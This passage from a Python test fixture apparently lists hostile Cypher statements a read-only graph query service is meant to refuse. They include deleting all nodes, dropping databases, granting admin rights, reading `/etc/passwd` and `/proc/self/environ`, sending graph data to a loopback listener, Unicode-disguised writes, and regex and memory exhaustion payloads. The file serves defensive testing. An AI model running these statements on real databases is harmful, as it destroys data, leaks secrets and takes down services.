"""Hostile Cypher of our own, by kind: what a stranger may send to a service that only means to answer questions.

`{PORT}` stands for a port on loopback where somebody listens who should never be reached.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Kind:
    """Statements that try the same thing."""

    name: str
    tries: str
    statements: tuple[str, ...]
    parameters: dict[str, Any] = field(default_factory=dict)


def _repeated(before: str, unit: str, times: int, after: str = "", close: str = "") -> str:
    return before + unit * times + after + close * times


def _joined(before: str, pieces: list[str], separator: str, after: str = "") -> str:
    return before + separator.join(pieces) + after


# --- What harms the graph, the machine or others. Both levels refuse every one of these.

WRITES = Kind(
    "writes",
    "to change the graph by a clause that writes, in plain sight",
    (
        "CREATE (p:Planted {id: 'p1'})",
        "create (p:Planted)-[:TIES]->(q:Planted) return p, q",
        "MATCH (e:Entity) WITH e LIMIT 2 CREATE (e)-[:PLANTED]->(:Planted)",
        "MERGE (a:Article {id: 'planted'}) ON CREATE SET a.title = 'planted'",
        "MERGE (e:Entity {id: 'Q1'}) ON MATCH SET e.name = 'planted' RETURN e",
        "MATCH (a:Article), (e:Entity) MERGE (a)-[:MENTIONS]->(e)",
        "MATCH (e:Entity) SET e.articles = e.articles + 1000",
        "MATCH (e:Entity {id: 'Q2'}) SET e = {id: 'Q2'}",
        "MATCH (e:Entity) SET e += $changes RETURN count(e)",
        "MATCH (e:Entity) SET e:Planted:Marked",
        "MATCH (e:Entity) SET e IS Planted",
        "MATCH (e:Entity {id: 'Q3'}) SET e['name'] = 'planted'",
        "MATCH ()-[r:CO_MENTIONED]-() SET r.articles = 0",
        "MATCH (e:Entity) REMOVE e:Entity",
        "MATCH (a:Article) REMOVE a.text, a.title",
        "MATCH (a:Article) DELETE a",
        "MATCH (n) DETACH DELETE n",
        "MATCH ()-[m:MENTIONS]->() DELETE m",
        "MATCH (n:Entity) NODETACH DELETE n",
        "MATCH (g:Graph) SET g.version = 0",
        "UNWIND range(1, 5000) AS i CREATE (:Planted {n: i})",
        "INSERT (p:Planted {id: 'gql'})",
        "CREATE (p:Planted) FINISH",
        "CREATE (p:Planted) WITH p LIMIT 0 RETURN p",
        "MATCH (e:Entity {id: 'nobody'}) CREATE (p:Planted) RETURN p",
    ),
    {"changes": {"name": "planted"}},
)

HIDDEN_WRITES = Kind(
    "hidden writes",
    "to change the graph by a clause that writes, inside or behind one that reads",
    (
        "MATCH (e:Entity) WITH collect(e) AS all FOREACH (x IN all | SET x.name = 'planted')",
        "FOREACH (n IN [1, 2] | FOREACH (m IN [n] | CREATE (:Planted {n: m})))",
        "CALL { CREATE (p:Planted) RETURN p.id AS id } RETURN id",
        "CALL () { MERGE (p:Planted {id: 1}) } RETURN 1 AS done",
        "MATCH (e:Entity) CALL (e) { SET e.name = 'planted' } RETURN count(e) AS n",
        "MATCH (e:Entity) CALL (*) { REMOVE e.name RETURN 1 AS x } RETURN x",
        "MATCH (e:Entity) OPTIONAL CALL (e) { DETACH DELETE e } RETURN 1",
        "CALL { CALL { CALL { CREATE (:Planted) } RETURN 1 AS a } RETURN a AS b } RETURN b",
        "CALL { RETURN 1 AS x UNION CREATE (p:Planted) RETURN 2 AS x } RETURN x",
        "RETURN EXISTS { CREATE (p:Planted) RETURN p } AS done",
        "RETURN COUNT { MERGE (p:Planted {id: 1}) RETURN p } AS n",
        "MATCH (e:Entity) RETURN COLLECT { MATCH (e) SET e.name = 'planted' RETURN e.name } AS names",
        "MATCH (e:Entity) WHERE EXISTS { MATCH (e) DETACH DELETE e RETURN 1 AS x } RETURN e",
        "RETURN CASE WHEN true THEN COUNT { CREATE (p:Planted) RETURN p } END AS n",
        "RETURN [x IN [1] | COLLECT { CREATE (p:Planted) RETURN p }] AS l",
        "RETURN 0 AS n UNION ALL CREATE (p:Planted) RETURN 1 AS n",
        "RETURN 0 AS n UNION MATCH (e:Entity) SET e.seen = true RETURN 1 AS n",
        "MATCH (e:Entity) RETURN e.name AS name LIMIT 0 SET e.name = 'planted'",
        "MATCH (e:Entity) RETURN e NEXT CREATE (:Planted)",
        "WITH 1 AS x ORDER BY x LIMIT 1 CREATE (:Planted)",
        "UNWIND [] AS nothing CREATE (:Planted)",
        "OPTIONAL MATCH (x:Nothing) CREATE (:Planted)",
        "CALL db.labels() YIELD label CREATE (:Planted {of: label})",
        "SHOW INDEXES YIELD name CREATE (:Planted {of: name})",
        "WHEN true THEN CREATE (:Planted) ELSE RETURN 1 AS x",
    ),
)

BATCHES = Kind(
    "batches",
    "to write in transactions of their own, which a rolled back one does not take along",
    (
        "UNWIND range(1, 10) AS i CALL (i) { CREATE (:Planted {n: i}) } IN TRANSACTIONS OF 2 ROWS",
        "MATCH (e:Entity) CALL { WITH e SET e.seen = true } IN TRANSACTIONS",
        "UNWIND [1, 2, 3] AS i CALL (i) { MERGE (:Planted {n: i}) } IN 3 CONCURRENT TRANSACTIONS",
        "MATCH (a:Article) CALL (a) { DETACH DELETE a } IN TRANSACTIONS ON ERROR CONTINUE REPORT STATUS AS s RETURN s",
        "MATCH (e:Entity) CALL (e) { RETURN e.name AS name } IN TRANSACTIONS OF 1 ROW RETURN name",
        "CALL { RETURN 1 AS x } IN CONCURRENT TRANSACTIONS RETURN x",
        "USING PERIODIC COMMIT 100 LOAD CSV FROM 'file:///planted.csv' AS row CREATE (:Planted)",
    ),
)

SEVERAL = Kind(
    "several statements",
    "to have one statement checked and another one run",
    (
        "RETURN 1 AS one; CREATE (:Planted)",
        "MATCH (e:Entity) RETURN e LIMIT 1; MATCH (n) DETACH DELETE n;",
        "; CREATE (:Planted)",
        "RETURN ';' AS sign; DROP INDEX entity_names",
        "BEGIN CREATE (:Planted)",
        "COMMIT; CREATE (:Planted)",
        "ROLLBACK",
        "RETURN 1 AS x\n;\n;\nMERGE (:Planted)",
        ":begin\nCREATE (:Planted);\n:commit",
        ":param x => 1",
    ),
)

PREFIXES = Kind(
    "prefixes",
    "to change how the statement runs, or to run it under another name",
    (
        "EXPLAIN MATCH (e:Entity) RETURN e",
        "explain profile CREATE (:Planted)",
        "PROFILE MATCH (e:Entity) SET e.name = 'planted'",
        "/* */ EXPLAIN /* */ CREATE CONSTRAINT planted FOR (p:Planted) REQUIRE p.id IS UNIQUE",
        "EXPLAIN CREATE INDEX planted FOR (p:Planted) ON (p.id)",
        "CYPHER 25 MATCH (e:Entity) LET n = e.name RETURN n",
        "CYPHER 5 CREATE (:Planted)",
        "CYPHER runtime=slotted MATCH (e:Entity) RETURN e.name",
        "cypher planner=cost debug=tostring match (e) set e.x = 1",
        "CYPHER replan=always MATCH (e:Entity) RETURN count(e)",
    ),
)

SCHEMA = Kind(
    "schema",
    "to add or drop indexes and constraints, or to read what else is configured",
    (
        "CREATE INDEX planted IF NOT EXISTS FOR (p:Planted) ON (p.id)",
        "CREATE TEXT INDEX planted FOR (a:Article) ON (a.text)",
        "CREATE FULLTEXT INDEX planted FOR (a:Article) ON EACH [a.text]",
        "CREATE VECTOR INDEX planted FOR (a:Article) ON a.v OPTIONS {indexConfig: {`vector.dimensions`: 4}}",
        "CREATE CONSTRAINT planted FOR (a:Article) REQUIRE a.title IS UNIQUE",
        "CREATE OR REPLACE INDEX entity_names FOR (e:Entity) ON (e.name)",
        "DROP INDEX entity_names IF EXISTS",
        "DROP CONSTRAINT article_id",
        "DROP INDEX ON :Entity(name)",
        "CREATE LOOKUP INDEX planted FOR (n) ON EACH labels(n)",
        "MATCH (e:Entity) RETURN e DROP INDEX entity_names",
        "SHOW PROCEDURES",
        "SHOW USER DEFINED FUNCTIONS EXECUTABLE",
    ),
)

ADMINISTRATION = Kind(
    "administration",
    "to change or look at users, rights, databases and servers, or to end what others do",
    (
        "CREATE USER planted SET PASSWORD 'planted-planted'",
        "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'planted-planted'",
        "ALTER USER neo4j SET HOME DATABASE planted",
        "DROP USER planted IF EXISTS",
        "RENAME USER neo4j TO planted",
        "SHOW CURRENT USER",
        "SHOW USERS YIELD user, roles RETURN user",
        "SHOW ROLES WITH USERS",
        "SHOW PRIVILEGES AS COMMANDS",
        "CREATE ROLE planted AS COPY OF admin",
        "GRANT ALL ON DBMS TO PUBLIC",
        "DENY MATCH {*} ON GRAPH * TO PUBLIC",
        "REVOKE GRANT ACCESS ON DATABASE * FROM PUBLIC",
        "CREATE DATABASE planted IF NOT EXISTS",
        "CREATE ALIAS planted FOR DATABASE neo4j",
        "STOP DATABASE neo4j NOWAIT",
        "ALTER DATABASE neo4j SET TOPOLOGY 1 PRIMARY",
        "DROP DATABASE planted IF EXISTS DESTROY DATA",
        "SHOW DATABASES YIELD * RETURN *",
        "SHOW SERVERS",
        "ENABLE SERVER 'planted'",
        "DRYRUN REALLOCATE DATABASES",
        "SHOW SETTINGS 'server.directories.import'",
        "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-1', 'neo4j-transaction-2'",
        "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTION id YIELD message RETURN message",
        "SHOW INDEXES YIELD name TERMINATE TRANSACTIONS name",
    ),
)

OTHER_GRAPHS = Kind(
    "other graphs",
    "to reach another database of the server",
    (
        "USE system MATCH (u:User) RETURN u",
        "USE neo4j CREATE (:Planted)",
        "USE system SHOW USERS",
        "USE graph.byName('system') MATCH (n) RETURN n",
        "USE graph.byElementId('4:0:0') RETURN 1 AS x",
        "CALL { USE system MATCH (d:Database) RETURN d.name AS name } RETURN name",
        "UNWIND graph.names() AS g CALL (g) { USE graph.byName(g) MATCH (n) RETURN count(n) AS n } RETURN g, n",
        "RETURN EXISTS { USE system MATCH (n) RETURN n } AS x",
        "RETURN graph.propertiesByName('neo4j') AS p",
    ),
)

PROCEDURES = Kind(
    "procedures",
    "to call a procedure that writes, administers, waits, ends what others do or tells of the server",
    (
        "CALL db.createLabel('Planted')",
        "CALL db.createRelationshipType('PLANTED')",
        "CALL db.create.setNodeVectorProperty(null, 'v', [1.0])",
        "MATCH (e:Entity) CALL db.create.setVectorProperty(e, 'v', [1.0, 2.0]) YIELD node RETURN node",
        "CALL db.index.fulltext.createNodeIndex('planted', ['Article'], ['text'])",
        "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
        "CALL db.index.vector.queryNodes('planted', 3, [1.0]) YIELD node RETURN node",
        "CALL db.index.vector.createNodeIndex('planted', 'Article', 'v', 4, 'cosine')",
        "CALL db.prepareForReplanning()",
        "CALL db.resampleIndex('entity_names')",
        "CALL db.awaitIndex('entity_names', 600)",
        "CALL db.ping() YIELD success RETURN success",
        "CALL db.info()",
        "CALL db.stats.collect('QUERIES')",
        "CALL db.stats.retrieveAllAnonymized('token')",
        "CALL dbms.listConnections() YIELD connectionId AS id RETURN collect(id)",
        "CALL dbms.killConnection('bolt-3')",
        "CALL dbms.listConfig('password')",
        "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
        "CALL dbms.quarantineDatabase('neo4j', true)",
        "CALL dbms.components() YIELD versions RETURN versions",
        "CALL dbms.queryJmx('*:*') YIELD attributes RETURN attributes",
        "CALL dbms.security.listUsers()",
        "CALL dbms.security.createUser('planted', 'planted-planted', false)",
        "CALL dbms.scheduler.jobs()",
        "CALL dbms.checkConfigValue('server.memory.heap.max_size', '1k')",
        "CALL dbms.upgrade()",
        "CALL tx.setMetaData({planted: true})",
        "call `tx`.`getMetaData`()",
        "CALL dbms . killConnections ( ['bolt-1', 'bolt-2'] )",
        "CALL `db.checkpoint`()",
        "CALL db./* hidden */clearQueryCaches()",
        "OPTIONAL CALL db.createProperty('planted')",
        "RETURN COUNT { CALL dbms.killConnections(['bolt-1']) YIELD message RETURN message } AS n",
        "RETURN CASE WHEN EXISTS { CALL db.createLabel('Planted') RETURN 1 AS x } THEN 1 END AS n",
        "CALL sys.query('CREATE (:Planted)')",
        "CALL algo.pagerank({writeProperty: 'planted'})",
        "CALL merge.node(['Planted'], {id: 1}, {}, {})",
        "CALL refactor.rename.label('Entity', 'Planted')",
        "CALL sql('DELETE FROM Entity')",
    ),
)

EXTENSIONS = Kind(
    "extensions",
    "to call what is only there where somebody installed it: APOC, GDS, GenAI, functions of the engine",
    (
        "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
        "CALL apoc.cypher.runMany('CREATE (:Planted);', {})",
        "CALL apoc.load.jdbc('jdbc:h2:mem:planted', 'SELECT 1')",
        "CALL apoc.export.csv.all('/tmp/planted.csv', {})",
        "CALL apoc.trigger.install('neo4j', 'planted', 'RETURN 1', {})",
        "CALL apoc.import.file('file:///planted')",
        "RETURN apoc.cypher.runFirstColumnMany('CREATE (:Planted)', {}) AS x",
        "RETURN apoc.util.sleep(60000) AS x",
        "RETURN apoc.text.regreplace('aaaa', '(a+)+$', 'b') AS x",
        "CALL gds.graph.project('planted', '*', '*')",
        "CALL gds.pageRank.write('planted', {writeProperty: 'planted'})",
        "RETURN genai.vector.encode('planted', 'OpenAI', {token: 'x'}) AS v",
        "CALL genai.vector.encodeBatch(['planted'], 'OpenAI', {token: 'x'}) YIELD vector RETURN vector",
        "CALL ai.text.completion('planted', 'OpenAI', {}) YIELD completion RETURN completion",
        "RETURN n10s.rdf.getIRILocalName('planted') AS x",
        "RETURN text.regexReplace('aaaa', '(a+)+$', 'b') AS x",
        "RETURN util.sleep(60000) AS x",
        "RETURN shell('id') AS x",
    ),
)

FILES = Kind(
    "files",
    "to read a file of the server",
    (
        "LOAD CSV FROM 'file:///etc/hosts' AS line RETURN line",
        'load csv with headers from "file:///etc/passwd" as line return line',
        "LOAD CSV FROM 'file:/etc/hosts' AS line FIELDTERMINATOR ':' RETURN line[0]",
        "LOAD CSV FROM 'file:///../../../../../../etc/hostname' AS line RETURN line",
        "LOAD CSV FROM 'file://localhost/etc/hosts' AS line RETURN line",
        "LOAD CSV FROM 'file:///%2e%2e/%2e%2e/etc/hosts' AS line RETURN line",
        "LOAD CSV FROM 'file:///proc/self/environ' AS line RETURN line",
        "LOAD CSV FROM 'file:///dev/zero' AS line RETURN count(line)",
        "LOAD CSV FROM 'file:///dev/stdin' AS line RETURN line",
        "LOAD/**/CSV/**/FROM/**/'file:///etc/hosts'/**/AS/**/line/**/RETURN/**/line",
        "WITH 'file:///etc/hosts' AS place LOAD CSV FROM place AS line RETURN line",
        "LOAD CSV FROM $place AS line RETURN line",
        "MATCH (e:Entity) LOAD CSV FROM 'file:///etc/hosts' AS line RETURN e.id, line LIMIT 1",
        "CALL { LOAD CSV FROM 'file:///etc/hosts' AS line RETURN line } RETURN line",
        "RETURN COLLECT { LOAD CSV FROM 'file:///etc/hosts' AS line RETURN line } AS lines",
        "RETURN [x IN [1] WHERE EXISTS { LOAD CSV FROM 'file:///etc/hosts' AS l RETURN l } | x] AS x",
        "RETURN CASE WHEN COUNT { LOAD CSV FROM 'file:///etc/hosts' AS l RETURN l } > 0 THEN 1 ELSE 0 END AS there",
        "RETURN 1 AS x UNION LOAD CSV FROM 'file:///etc/hosts' AS x RETURN x",
        "RETURN file() AS name, linenumber() AS line",
        "CALL apoc.load.csv('file:///etc/hosts') YIELD list RETURN list",
        "IMPORT DATABASE file:///etc/hosts",
        "BACKUP DATABASE file:///tmp/planted.zip",
        "EXPORT DATABASE file:///tmp/planted.tgz",
    ),
    {"place": "file:///etc/hosts"},
)

NETWORK = Kind(
    "network",
    "to make the server call somebody, with data in the address or not",
    (
        "LOAD CSV FROM 'http://127.0.0.1:{PORT}/list.csv' AS line RETURN line",
        "LOAD CSV WITH HEADERS FROM 'http://localhost:{PORT}/' AS line RETURN line.name",
        "LOAD CSV FROM 'http://[::1]:{PORT}/' AS line RETURN line",
        "LOAD CSV FROM 'http://0x7f000001:{PORT}/' AS line RETURN line",
        "LOAD CSV FROM 'http://2130706433:{PORT}/' AS line RETURN line",
        "LOAD CSV FROM 'http://user:planted@127.0.0.1:{PORT}/' AS line RETURN line",
        "LOAD CSV FROM 'ftp://127.0.0.1:{PORT}/list.csv' AS line RETURN line",
        "LOAD CSV FROM 'jar:http://127.0.0.1:{PORT}/a.jar!/list.csv' AS line RETURN line",
        "LOAD CSV FROM 'https://127.0.0.1:{PORT}/' AS line RETURN line",
        "MATCH (e:Entity) LOAD CSV FROM 'http://127.0.0.1:{PORT}/?' + e.name AS line RETURN line",
        "MATCH (e) WHERE COUNT { LOAD CSV FROM 'http://127.0.0.1:{PORT}/' + e.id AS x RETURN x } > 0 RETURN e.id",
        "RETURN EXISTS { LOAD CSV FROM 'http://127.0.0.1:{PORT}/' AS line RETURN line } AS x",
        "RETURN CASE WHEN EXISTS { LOAD CSV FROM 'http://127.0.0.1:{PORT}/' AS l RETURN l } THEN 1 ELSE 2 END AS x",
        "RETURN [x IN [1] | COUNT { LOAD CSV FROM 'http://127.0.0.1:{PORT}/' AS l RETURN l }] AS x",
        "UNWIND range(1, 100) AS i LOAD CSV FROM 'http://127.0.0.1:{PORT}/' + i AS line RETURN line",
        "RETURN apoc.load.json('http://127.0.0.1:{PORT}/') AS document",
        "CALL apoc.load.xml('http://127.0.0.1:{PORT}/') YIELD value RETURN value",
        "CALL apoc.load.html('http://127.0.0.1:{PORT}/', {a: 'a'}) YIELD value RETURN value",
        "CALL load.json('http://127.0.0.1:{PORT}/') YIELD value RETURN value",
        "IMPORT DATABASE http://127.0.0.1:{PORT}/planted.jsonl",
    ),
)

DISGUISES = Kind(
    "disguises",
    "to look like reading to one reader and like writing to another: escapes, comments, odd characters, quoted names",
    (
        "MATCH (e:Entity) RETURN e.id AS id // \\u000a UNION CREATE (p:Planted) RETURN p.id AS id",
        "MATCH (e:`Entity\\u0060) SET e.name = 'planted' //`) RETURN e",
        "RETURN '\\u0027 AS x CREATE (:Planted) //' AS y",
        'RETURN "\\U00000022 AS x CREATE (:Planted) //" AS y',
        "\\u0043REATE (:Planted)",
        "CALL db.`create\\u004Cabel`('Planted')",
        "MATCH (e:Entity)\u00a0SET e.name = 'planted'",
        "MATCH (e:Entity)\u3000SET\u3000e.name = 'planted'",
        "MATCH (e:Entity)\x0bDETACH\x0bDELETE e",
        "CR\u200bEATE (:Planted)",
        "CRE\u00adATE (:Planted)",
        "\ufeffCREATE (:Planted)",
        "\uff23\uff32\uff25\uff21\uff34\uff25 (:Planted)",
        "CREATE\u200d (:Planted)",
        "M\u0415RG\u0415 (:Planted)",
        "MATCH (e:Entity) \u017fET e.name = 'planted'",
        "\ufb01nish",
        "MATCH (e) // reading\rSET e.name = 'planted' RETURN e",
        "MATCH (e) // reading\u2028SET e.name = 'planted' RETURN e",
        "MATCH (e) // reading\x85SET e.name = 'planted' RETURN e",
        "/* nothing /* but */ CREATE (:Planted) /* a remark */",
        "RETURN 1 AS x /* */ /*/ */ CREATE (:Planted) // */",
        "RETURN 'it''s' AS x CREATE (:Planted)",
        "RETURN 'a\\\\' AS x CREATE (:Planted) // '",
        "MATCH (e:`a``) RETURN e //`) DETACH DELETE e",
        "MATCH (`create`) SET `create`.name = 'planted'",
        "RETURN 1AS x CREATE(:Planted)",
        "RETURN $\u00a0x CREATE (:Planted)",
        "RETURN '\ud83d' AS half CREATE (:Planted)",
        "RETURN 1 AS x\x00CREATE (:Planted)",
        "RETURN DISTINCT detach [n] // DELETE",
        "MATCH (e:$('Entity')) SET e:$any(['Planted'])",
    ),
)

OTHER_LANGUAGES = Kind(
    "other languages",
    "to be understood by an engine that speaks more than Cypher",
    (
        "INSERT INTO Entity SET id = 'planted'",
        "UPDATE Entity SET name = 'planted' UPSERT WHERE id = 'planted'",
        "DELETE VERTEX Entity",
        "DELETE FROM Article WHERE 1 = 1",
        "SELECT FROM schema:database",
        "select expand(out()) from Entity",
        "CREATE VERTEX TYPE Planted",
        "ALTER DATABASE `arcadedb.command.timeout` 0",
        "DROP TYPE Article UNSAFE",
        "TRUNCATE TYPE Article UNSAFE",
        "REBUILD INDEX *",
        "CHECK DATABASE FIX",
        "LET x = SELECT FROM Entity; RETURN $x",
        "{ cypher } CREATE (:Planted)",
        "sql:DELETE FROM Entity",
        "js:while(true){}",
        "g.V().drop().iterate()",
        "mutation { planted }",
        "DEFINE FUNCTION planted 'while(true){}' LANGUAGE js",
        "return 1; drop type Entity;",
        "MATCH {type: Entity, as: e} RETURN e",
        "MATCH (e:Entity) WHERE e.@rid IS NOT NULL RETURN e",
    ),
)

HARMFUL = (
    *(WRITES, HIDDEN_WRITES, BATCHES, SEVERAL, PREFIXES, SCHEMA, ADMINISTRATION, OTHER_GRAPHS, PROCEDURES),
    *(EXTENSIONS, FILES, NETWORK, DISGUISES, OTHER_LANGUAGES),
)

# --- What no parser should be asked to read. Both levels refuse these.

OVERSIZED = Kind(
    "oversized",
    "to fill memory or to overflow a stack by the text itself",
    (
        _repeated("RETURN '", "y", 2_000_000, "' AS t"),
        _repeated("RETURN ", "(", 100_000, "1", ")"),
        _repeated("RETURN ", "[", 5_000, "", "]"),
        _repeated("RETURN ", "{a: ", 4_000, "1", "}"),
        _repeated("RETURN ", "NOT ", 4_900, "true"),
        _repeated("RETURN ", "-(", 3_000, "1", ")"),
        _repeated("RETURN ", "CASE WHEN true THEN ", 200, "1", " END"),
        _repeated("RETURN ", "EXISTS { MATCH (a) WHERE ", 60, "true", " }"),
        _repeated("", "CALL { ", 60, "RETURN 1 AS x", " } RETURN x"),
        _repeated("RETURN x", ".y", 900),
        _repeated("RETURN x", "[0]", 600),
        _repeated("RETURN 1 AS x ", "/* nothing */", 5_000),
        _repeated("WITH 1 AS x", " WITH x + 1 AS x", 2_000, " RETURN x"),
        _repeated("RETURN 1", " + 1", 5_000),
        _repeated("RETURN `", "``", 30_000, "`"),
        _repeated("MATCH (a)", "-->()", 1_000, " RETURN a"),
        _repeated("RETURN x IS :: ", "LIST<", 200, "ANY", ">"),
        _repeated("\n", "\n", 1_000_000, "RETURN 1"),
        _joined("UNWIND [", ["{id: 'Q1', name: 'one'}"] * 2_000, ", ", "] AS row RETURN row"),
        _joined("MATCH (e:Entity) WHERE e.id IN [", [f"'Q{i}'" for i in range(4_000)], ", ", "] RETURN e"),
    ),
)

# --- What reads, and does not end or eats the memory. `strict` refuses these; `trusted` leaves them to their author.

LOOPS = Kind(
    "loops",
    "to compute without end inside one expression",
    (
        "RETURN reduce(total = 0, n IN range(1, 9999999) | total + n) AS total",
        "RETURN reduce(a = 0, i IN range(1, 9999) | reduce(b = a, j IN range(1, 9999) | b + 1)) AS n",
        "WITH range(1, 10000) AS l RETURN size([x IN l WHERE any(y IN l WHERE y = -x)]) AS n",
        "WITH range(1, 10000) AS l RETURN size([x IN l WHERE -x IN l]) AS n",
        "WITH range(1, 10000) AS l RETURN size([x IN l WHERE size(reverse(l) + x) = x]) AS n",
        "UNWIND range(1, 9999) AS a UNWIND range(1, 50) AS b WITH collect(a * b) AS l RETURN [x IN l WHERE -x IN l]",
        "MATCH (a)--(b) WITH collect(a.id + b.id) AS l RETURN all(x IN l WHERE l + x <> l) AS n",
        "UNWIND range(1, 999999999999) AS n RETURN n",
        "RETURN -1 IN range(0, 2000000000) AS found",
        "RETURN [x IN range(1, 10000) | [y IN range(1, 10000) | [z IN range(1, 10000) | x * y * z]]] AS cube",
        "MATCH (e:Entity) RETURN [x IN range(1, 10000) WHERE COUNT { MATCH (a), (b), (c) RETURN a } > x] AS l",
        "RETURN COUNT { UNWIND range(1, 10000) AS a UNWIND range(1, 10000) AS b RETURN a } AS n",
        "RETURN single(x IN range(1, 10000) WHERE none(y IN range(1, 10000) WHERE x * y = -1)) AS s",
        "MATCH (a:Entity) RETURN [(a)--(b) | [(b)--(c) | [(c)--(d) | d.id]]] AS l",
    ),
)

GROWTH = Kind(
    "growth",
    "to build a value that fills the memory",
    (
        _repeated("WITH 'xy' AS s", " WITH s + s AS s", 28, " RETURN size(s)"),
        _repeated("WITH [1, 2] AS l", " WITH l + l AS l", 28, " RETURN size(l)"),
        _repeated("WITH {a: 1} AS m", " WITH {a: m, b: m} AS m", 28, " RETURN m"),
        _repeated("WITH [0, 1] AS l", " WITH [x IN l | l] AS l", 8, " RETURN l"),
        _repeated("WITH 'ab' AS s", " WITH replace(s, 'a', 'aaaaaaaa') AS s", 12, " RETURN size(s)"),
        _repeated("WITH 1 AS x CALL (x) { RETURN [x, x] AS y }", " WITH y AS x CALL (x) { RETURN [x, x] AS y }", 25)
        + " RETURN y",
        "RETURN reduce(s = 'xy', i IN range(1, 40) | s + s) AS s",
        "RETURN reduce(l = [0], i IN range(1, 40) | l + l) AS l",
        "RETURN [x IN range(1, 10000) | range(1, 10000)] AS table",
        "UNWIND range(1, 10000) AS x UNWIND range(1, 99) AS y RETURN [i IN range(1, 9000) | toString(i + x * y)] AS l",
        _repeated(
            "UNWIND range(1, 9999) AS a UNWIND range(1, 99) AS b WITH collect(a) AS l RETURN size(l", " + l", 200, ")"
        ),
        "RETURN split('" + "z" * 15_000 + "', '') + split('" + "y" * 4_900 + "', '') + ['x'] AS l",
        "RETURN round(1.5, 2000000000) AS n",
        _repeated("WITH [1] AS l", " WITH [[[[[[[[[[l]]]]]]]]]] AS l", 29, " RETURN l"),
    ),
)

PARAMETERS = Kind(
    "parameters",
    "to send beside the statement what may not stand in it",
    (
        "RETURN size([x IN $list WHERE -x IN $list]) AS n",
        "RETURN [x IN $list | $list] AS table",
        _joined("RETURN size(", ["$text"] * 300, " + ", ") AS n"),
        "RETURN $text CONTAINS ($text + 'b') AS n",
        "RETURN size(split($text, left($text, 200000) + 'b')) AS n",
        "UNWIND range(1, $count) AS n RETURN collect(n) AS l",
        "MATCH (e:Entity) WHERE e.name =~ $pattern RETURN e",
        "RETURN $text =~ '(?s).*a.*a.*b' AS n",
        "MATCH (e:Entity) RETURN replace(e.name, '', $text) AS s",
        "CALL db.index.fulltext.queryNodes('entity_names', $search) YIELD node RETURN node",
    ),
    {
        "list": list(range(200_000)),
        "text": "a" * 3_000_000,
        "count": 2_000_000_000,
        "pattern": "(a|aa)+$",
        "search": "(" * 40_000 + "a" + ")" * 40_000,
    },
)

WALKS = Kind(
    "walks",
    "to follow relationships without end, most of all inside one expression",
    (
        "MATCH p = (a:Entity)-[*1..30]-(b:Entity) RETURN count(p) AS n",
        "MATCH p = (:Entity)-[:CO_MENTIONED*]-(:Entity) RETURN max(length(p)) AS n",
        "MATCH (a:Entity)-[:CO_MENTIONED]-+(b:Entity) RETURN count(*) AS n",
        "MATCH (a) ((x)--(y)){3,} (b) RETURN count(*) AS n",
        "MATCH (a) ((w)--(x)--(y)){1,9} (b) RETURN count(*) AS n",
        "MATCH p = shortestPath((a:Entity)-[*]-(b:Entity)) WHERE length(p) > 20 RETURN p",
        "MATCH p = allShortestPaths((a)-[*..40]-(b)) RETURN count(p) AS n",
        "MATCH p = SHORTEST 9 (a)--+(b) RETURN count(p) AS n",
        "MATCH (a) WHERE EXISTS { (a)-[*9..12]-(:Nothing) } RETURN count(a) AS n",
        "MATCH (a) RETURN sum(COUNT { (a)--()--()--()--()--()--()--() }) AS n",
        "MATCH (a) RETURN [(a)-[*..8]-(b) | b.id] AS l",
        "MATCH (a) WHERE (a)-[*7..9]-(:Nothing) RETURN count(a) AS n",
        _repeated("MATCH (a)", "--()", 40, " RETURN count(*) AS n"),
    ),
)

REGULAR_EXPRESSIONS = Kind(
    "regular expressions",
    "to make a back-tracking engine try every way",
    (
        "RETURN 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb' =~ '(b|bb)+c' AS matches",
        "MATCH (e:Entity) WHERE e.name =~ '(\\\\w+\\\\s?)*#' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '(([a-z])+.)+[A-Z]([a-z])+$' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '(.*)*(.*)*(.*)*x' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '.*.*.*.*.*.*.*#' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '(?:a?){40}a{40}' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '(a)(?=\\\\1+).*' RETURN e",
        "MATCH (e:Entity) WHERE e.name =~ '" + "a?" * 60 + "a' RETURN e",
        "MATCH (a:Article) WHERE a.text =~ '.*.*.*#' RETURN a.id",
        "MATCH (a:Article) WITH a.text AS t WHERE t =~ '.*e.*e.*#' RETURN count(t) AS n",
        "MATCH (a:Article) WHERE a['te' + 'xt'] =~ '.*.*.*#' RETURN a.id",
        "MATCH (a:Article) RETURN [k IN keys(a) WHERE a[k] =~ '.*.*.*#'] AS l",
        "WITH replace('aaaaaaaaaa', 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaa') AS s RETURN s =~ '.*a.*a.*b' AS n",
    ),
)

SEARCHES = Kind(
    "searches",
    "to make the full-text index read and plan a query without end",
    (
        "CALL db.index.fulltext.queryNodes('entity_names', '/(((a{1,99}){1,99}){1,99}){1,99}/') YIELD node RETURN node",
        "CALL db.index.fulltext.queryNodes('entity_names', 'x' + '/(.*a){30}/') YIELD node RETURN node",
        _joined(
            "CALL db.index.fulltext.queryNodes('entity_names', '", [f"abcdefghij{i}~2" for i in range(900)], " ", "')"
        ),
        _joined("CALL db.index.fulltext.queryNodes('entity_names', '", ["*a*b*c*"] * 300, " OR ", "')"),
        _repeated("CALL db.index.fulltext.queryNodes('entity_names', '", "(", 9_000, "a", ")") + "')",
        "MATCH (e:Entity) CALL db.index.fulltext.queryNodes('entity_names', e.name + '~') YIELD node RETURN node",
        "WITH replace('aaaaaaaaaa', 'a', 'b~ b~ b~ b~ b~ ') AS q "
        "CALL db.index.fulltext.queryNodes('entity_names', q) YIELD node RETURN node",
    ),
)

_PAIRS = [f"(e.a{i} = 1 OR e.b{i} = 1)" for i in range(18)]
PLANNING = Kind(
    "planning",
